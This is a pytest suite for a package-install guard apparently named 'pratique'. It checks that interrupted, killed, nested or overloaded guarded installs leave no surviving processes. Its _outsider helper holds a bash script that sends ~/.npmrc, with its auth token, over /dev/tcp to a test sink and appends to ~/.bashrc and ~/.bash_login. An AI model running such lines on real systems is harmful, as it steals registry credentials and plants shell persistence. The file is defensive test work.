"""Bad days: interrupted, killed, doubled, nested. Nothing runs free, nothing stays, the host lives on."""

import os
import secrets
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from lab.guard import end, guarded, read_report, run, settled, start
from lab.residue import left_since, marked, snapshot
from lab.world import World
from scenarios.runner import play
from scenarios.scenario import ENFORCE, form

_PACKAGES = Path(__file__).parent / "packages"


@pytest.fixture
def harbour(lab: None) -> Iterator[World]:
    """Surroundings whose index has `slow-boat`: its build starts two children and takes a minute."""
    with World([_PACKAGES / "slow-boat-1.0.0"]) as made:
        yield made


@pytest.mark.parametrize("name", ["INT", "TERM", "HUP"])
def test_signal_in_mid_install(guard: None, harbour: World, name: str) -> None:
    """Ctrl-C, SIGTERM and hang-up end the install, its children and the guard, and leave nothing."""
    before = snapshot()
    with _MidInstall(harbour) as install:
        number = signal.Signals[f"SIG{name}"]
        # A terminal sends Ctrl-C to the whole foreground group, a supervisor its signals to one process.
        (os.killpg if name == "INT" else os.kill)(install.process.pid, number)
        install.process.wait(timeout=15)

        assert install.process.returncode != 0
        assert settled(install.mark) == []
    assert left_since(before) == []
    report = read_report(harbour.folder / "report.json")
    assert report is not None
    assert report["run"]["pratique_status"] in (install.process.returncode, 128 + number, 1)


def test_signal_ends_a_plain_command_with_its_own_status(guard: None, harbour: World) -> None:
    """A command that dies of the passed signal gives the caller that very death."""
    mark = secrets.token_hex(8)
    with start(
        guarded(["sh", "-c", "echo up; exec sleep 60"]), harbour.environment(), harbour.folder, mark
    ) as it:
        assert it.stdout is not None
        assert it.stdout.readline() == "up\n"
        it.terminate()

        assert it.wait(timeout=15) == -signal.SIGTERM
    assert settled(mark) == []


def test_agent_killed(guard: None, harbour: World) -> None:
    """After kill -9 of the agent the tree dies, outsiders open guarded files at once, nothing is left."""
    before = snapshot()
    with _MidInstall(harbour) as install:
        install.process.kill()
        started = time.monotonic()
        _read_as_outsider(harbour.home.path("~/.npmrc"), 1.0)

        assert settled(install.mark, patience=1.0) == []
        assert time.monotonic() - started < 2.0
    assert left_since(before) == []


def test_agent_stopped(guard: None, harbour: World) -> None:
    """An agent that hangs (SIGSTOP) is declared dead by the guardian: the tree dies, outsiders go on."""
    with _MidInstall(harbour) as install:
        os.kill(install.process.pid, signal.SIGSTOP)
        _until(lambda: set(marked(install.mark)) <= {install.process.pid}, 20)
        _read_as_outsider(harbour.home.path("~/.npmrc"), 5.0)

        assert not any("boat-" in _line(pid) for pid in marked(install.mark))


def test_guardian_killed(guard: None, harbour: World) -> None:
    """After kill -9 of the guardian the agent itself ends the tree, gives 125 and says why; nothing is left."""
    before = snapshot()
    with _MidInstall(harbour) as install:
        os.kill(_guardian_of(install.process.pid), signal.SIGKILL)

        assert install.process.wait(timeout=15) == 125
        assert settled(install.mark) == []
    assert left_since(before) == []
    report = read_report(harbour.folder / "report.json")
    assert report is not None
    assert report["run"]["pratique_status"] == 125
    assert report["run"]["incomplete"] is True
    assert "guardian" in report["run"]["guard_lost"]


def test_outsiders_are_untouched(guard: None, harbour: World) -> None:
    """While a run holds, and after it, an unlabelled process does all that package code may not."""
    with _MidInstall(harbour):
        assert _outsider(harbour) == "secret sent planted made started"
    assert _outsider(harbour) == "secret sent planted made started"
    assert [place for place in harbour.leaks() if place == "~/.npmrc"]


def test_survivors_are_ended_and_listed(guard: None, world: World) -> None:
    """What outlives the command is ended after a short grace, and the report says who it was."""
    report = world.folder / "report.json"
    outcome = run(guarded(world.install("poll-keeper"), report), world.environment(), world.folder, report)

    assert outcome.survivors == ()
    assert outcome.report is not None
    listed = {process["pid"]: process["argv"] for process in outcome.report["tree"]}
    assert len(outcome.report["run"]["survivors"]) == 1
    assert listed[outcome.report["run"]["survivors"][0]][-1].startswith("poller-")
    assert (
        f"still running after the command and ended: {outcome.report['run']['survivors'][0]}" in outcome.err
    )


def test_label_table_full(guard: None, world: World) -> None:
    """With no room for more labels nobody runs unlabelled: parent and child die, and the run is incomplete."""
    report = world.folder / "report.json"
    small = (
        "import functools, sys\n"
        "from pratique import cli\n"
        "from pratique.backends.hooks import backend\n"
        "backend.Probes = functools.partial(backend.Probes, label_slots=8)\n"
        "sys.exit(cli.main(sys.argv[1:]))\n"
    )
    # Bounded: 40 children of a few seconds, where 8 labels are to be had.
    many = "import os, time\nfor _ in range(40):\n    if os.fork() == 0: break\ntime.sleep(20)\n"
    command = guarded([sys.executable, "-c", many], report)
    outcome = run([sys.executable, "-c", small, *command[1:]], world.environment(), world.folder, report)

    assert outcome.seconds < 15
    assert outcome.survivors == ()
    assert outcome.report is not None
    assert outcome.report["run"]["incomplete"] is True
    assert outcome.report["run"]["lost_events"] > 0
    assert outcome.status == -signal.SIGKILL
    assert "incomplete" in outcome.err


def test_two_runs_at_once(guard: None) -> None:
    """Two guarded installs beside each other are both stopped, and each report names only its own."""
    with ThreadPoolExecutor(2) as pool:
        results = list(pool.map(lambda name: play(form(name), ENFORCE), ["O01", "O03"]))

    assert [result.broken for result in results] == [[], []]


def test_run_inside_a_run(guard: None, world: World) -> None:
    """The inner run does nothing of its own, says so, and the outer one still refuses."""
    inner = world.folder / "inner.json"
    outcome = run(
        guarded(guarded(world.install("poll-keeper"), inner)), world.environment(), world.folder, inner
    )

    assert outcome.status == 3
    assert b"GET /user" not in world.sink.received()
    assert outcome.report is not None
    assert "inside" in inner.read_text(encoding="utf-8") or "outer" in inner.read_text(encoding="utf-8")


def test_pretending_to_be_inside_a_run(guard: None, world: World) -> None:
    """An exported variable cannot switch the guard off."""
    command = ["env", "PRATIQUE_RUN=01HZZZZZZZZZZZZZZZZZZZZZZZ", *guarded(world.install("poll-keeper"))]
    outcome = run(command, world.environment(), world.folder)

    assert outcome.status == 3
    assert b"GET /user" not in world.sink.received()


class _MidInstall:
    """A guarded install of `slow-boat`, left at the point where its build runs; ended whatever happens."""

    def __init__(self, world: World) -> None:
        self._world = world
        self.mark = secrets.token_hex(8)
        command = guarded(world.install("slow-boat"), world.folder / "report.json")
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        self.process = start(command, world.environment(), world.folder, self.mark, **quiet)

    def __enter__(self) -> "_MidInstall":
        _until((self._world.folder / "marks" / "started").exists, 20)
        return self

    def __exit__(self, *_: object) -> None:
        end(self.mark)
        self.process.wait(timeout=10)


def _until(happened: Callable[[], bool], seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while not happened():
        assert time.monotonic() < deadline, "it did not happen in time"
        time.sleep(0.05)


def _read_as_outsider(path: Path, seconds: float) -> None:
    done = subprocess.run(["cat", str(path)], capture_output=True, timeout=seconds, check=False)
    assert done.returncode == 0, done.stderr


def _outsider(world: World) -> str:
    script = (
        f"grep -q _authToken {world.home.path('~/.npmrc')} && printf 'secret '\n"
        f"exec 3<>/dev/tcp/{world.network.sink}/8080 && cat {world.home.path('~/.npmrc')} >&3 && printf 'sent '\n"
        f"echo '# mine' >> {world.home.path('~/.bashrc')} && printf 'planted '\n"
        f"echo '# mine' > {world.home.path('~/.bash_login')} && printf 'made '\n"
        "setpriv --version >/dev/null && printf started\n"
    )
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=10, check=False)
    return done.stdout


def _guardian_of(agent: int) -> int:
    children = Path(f"/proc/{agent}/task/{agent}/children").read_text(encoding="ascii").split()
    return next(
        int(pid) for pid in children if Path(f"/proc/{pid}/comm").read_text().startswith("pratique-g")
    )


def _line(pid: int) -> str:
    try:
        return Path("/proc", str(pid), "cmdline").read_text(encoding="utf-8", errors="replace")
    except OSError:
        return ""
